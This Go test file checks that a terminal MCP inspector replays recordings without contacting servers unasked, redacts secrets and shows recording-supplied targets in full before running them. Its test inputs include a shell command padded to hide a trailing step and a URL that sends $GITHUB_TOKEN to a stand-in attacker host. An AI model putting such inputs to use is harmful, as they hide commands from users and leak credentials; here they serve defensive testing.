package inspector

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"mcptea/client"
	"mcptea/client/revision"
	"mcptea/demo"
	"mcptea/internal/test/inmemory"
	"mcptea/internal/test/raced"
	"mcptea/internal/test/sessiontest"
	"mcptea/session/requests"
	"mcptea/session/session"
)

// recordDemo records a session with the demo server and returns the file.
func recordDemo(t *testing.T, script func(d *driver)) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "demo.mcptea.jsonl")
	cfg := session.Config{
		Target: client.Target{Argv: []string{"demo-server", "--api-key", "sk-secret"}}, Record: path, Lists: client.ListKinds, Lint: true,
		Client:   client.Config{Name: "mcptea", Version: "test", Revision: revision.R20251125},
		Policies: requests.Policies{Elicitation: requests.Policy{Mode: requests.PolicyUser}},
		Dial: func(tap client.Tap, cfg client.Config) *client.Client {
			return client.NewOver(inmemory.New(sessiontest.Demo(demo.Options{})), tap, cfg)
		},
	}
	driveSession(t, 120, 36, cfg, script)
	return path
}

func driveRecording(t *testing.T, w, h int, path string, script func(d *driver)) {
	t.Helper()
	driveOpened(t, w, h, func() (*session.Session, error) {
		return session.OpenRecording(path, session.Config{Lint: true, Lists: client.ListKinds})
	}, script)
}

// The inspector shows a recording as it showed the session, and connects to nothing
// unless the user accepts a target.
func TestRecording_InspectorWithoutServer(t *testing.T) {
	path := recordDemo(t, func(d *driver) {
		d.press("2<enter>hello<enter>")
		d.sees("hello")
		d.press("<esc><esc>")
	})
	driveRecording(t, 120, 36, path, func(d *driver) {
		d.sees("mcptea-demo", "RECORDING", "demo.mcptea.jsonl", "9 Traffic", "→ echo", "enter frame", "R branch")
		d.lacks("connected in")
		d.press(".")
		d.sees("A recording has no server that gets roots. R continues with a server.")
		d.press("<end><enter>")
		d.sees("hello")
		d.press("<esc><esc>1")
		d.sees("as requested", "functions to call")
		d.press("2")
		d.sees("make-report")
		d.press("<enter>again<enter>")
		d.sees("Send tools/call", "This needs a server, and a recording has none.", "demo-server --api-key ••••", "Redacted: ••••")
		d.press("<enter>")
		d.sees("Replace ••••")
		if d.model.chosen != nil {
			t.Fatal("it connects to a target without its secret")
		}
		d.press("<esc>")
		d.lacks("This needs a server")
		d.press("<esc>")
		d.press("R")
		d.sees("This needs a server")
		d.press("<ctrl+k>http://127.0.0.1:1/mcp<enter>")
		if d.model.chosen == nil {
			t.Error("a target that the user has typed is not used")
		}
	})
}

// foreignRecording is a recording of others that names a target.
func foreignRecording(t *testing.T, target string) string {
	line := func(format string, args ...any) string { return fmt.Sprintf(format, args...) + "\n" }
	path := filepath.Join(t.TempDir(), "foreign.mcptea.jsonl")
	over := "stdio"
	if strings.HasPrefix(target, "http") {
		over = "http"
	}
	text := line(`{"mcptea":2,"t":1780000000000000000,"tool":"mcptea","transport":%q,"target":%q}`, over, target) +
		line(`{"s":1,"t":1780000000000000000,"k":"connection","what":"opened","conn":1,"transport":%q,"target":%q}`, over, target) +
		line(`{"s":2,"t":1780000000000000000,"k":"connection","what":"ready","conn":1,"transport":%q,"revision":"2025-11-25"}`, over)
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// Nothing that a recording names is used before all of it was visible.
func TestRecording_ForeignTargetIsShownInFull(t *testing.T) {
	raced.Never(t, "repeats one drawing over sizes")
	long := "sh -c 'touch /tmp/PWNED; exec sleep 1' " + strings.Repeat("--experimental-vm-modules ", 60) + "node server.js"
	blanks := "sh -c 'true" + strings.Repeat(" ", 3000) + "; touch §'"
	for _, size := range sizesOf(screenSizes) {
		for _, target := range []string{long, blanks} {
			driveRecording(t, size[0], size[1], foreignRecording(t, target), func(d *driver) {
				d.press("R")
				d.sees("Connect to:", "sh -c '", "This line is from the recording")
				d.press("<enter>")
				d.sees("Start this command?", "from      recording foreign.mcptea.jsonl", "1  sh", "2  -c", "without a shell", "a command line for a shell")
				all := d.term.screen()
				d.press("<enter>ny")
				below := strings.Contains(d.term.screen(), "more below")
				if below && d.model.chosen != nil {
					t.Fatalf("it is started before the end was in sight:\n%s", d.term.screen())
				}
				for range 100 {
					all += d.term.screen()
					d.program.Send(pressKey("down"))
					d.sleep(40 * time.Millisecond)
				}
				if below {
					d.settle()
					d.lacks("more below")
					d.press("y")
				}
				if target == blanks {
					if !strings.Contains(all, "§") {
						t.Errorf("the end of the argument was not in sight")
					}
				} else if !below {
					t.Error("all arguments are in sight at once")
				}
				if c := d.model.chosen; c == nil || c.Target != target {
					t.Errorf("agreed to %+v", c)
				}
			})
		}
	}
}

func TestRecording_ForeignURLAndVariables(t *testing.T) {
	driveRecording(t, 100, 30, foreignRecording(t, "https://evil.example/mcp?x=$GITHUB_TOKEN"), func(d *driver) {
		d.press("R<enter>")
		d.sees("Connect to this URL?", "https://evil.example/mcp?x=$GITHUB_TOKEN", "environment variables are inserted: GITHUB_TOKEN")
		d.press("<esc>")
		d.lacks("Connect to this URL?")
		if d.model.chosen != nil {
			t.Error("it connects after esc")
		}
		d.press("R<end> --more<enter>")
		d.sees("Start this command?", "--more") // changed, and still of the recording
	})
}

func TestRecording_TargetIsChosen(t *testing.T) {
	path := recordDemo(t, func(d *driver) { d.press("2<enter>hello<enter>") })
	driveRecording(t, 120, 36, path, func(d *driver) {
		d.press("2<enter>again<enter><ctrl+k>./server --x<enter>")
		c := d.model.chosen
		if c == nil || c.Target != "./server --x" || c.Draft.Method != "tools/call" || !strings.Contains(string(c.Draft.Params), `"again"`) {
			t.Errorf("%+v", c)
		}
	})
}

// A call that goes to another session leaves its progress token behind, and nothing else.
func TestRecording_TokenStays(t *testing.T) {
	path := recordDemo(t, func(d *driver) {
		d.compose("tools/call", `{"name":"add","arguments":{"a":1,"b":2},"_meta":{"trace":"t-1","progressToken":"old"}}`)
	})
	driveRecording(t, 120, 36, path, func(d *driver) {
		d.press("9<end>r<ctrl+k>./server<enter>")
		const want = `{"name":"add","arguments":{"a":1,"b":2},"_meta":{"trace":"t-1"}}`
		if c := d.model.chosen; c == nil || string(c.Draft.Params) != want {
			t.Errorf("the draft is %+v, want %s", c, want)
		}
	})
}

// What of a recording could not be read is said, at every size.
func TestRecording_Damaged(t *testing.T) {
	path := recordDemo(t, func(*driver) {})
	text, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(strings.Replace(string(text), "\n", "\ngarbage\n", 1)), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, size := range [][2]int{{80, 24}, {200, 60}} {
		driveRecording(t, size[0], size[1], path, func(d *driver) {
			d.sees("Line 2 is not an event and was skipped", "damaged", "RECORDING")
			d.press("1")
			d.sees("mcptea-demo")
		})
	}
}
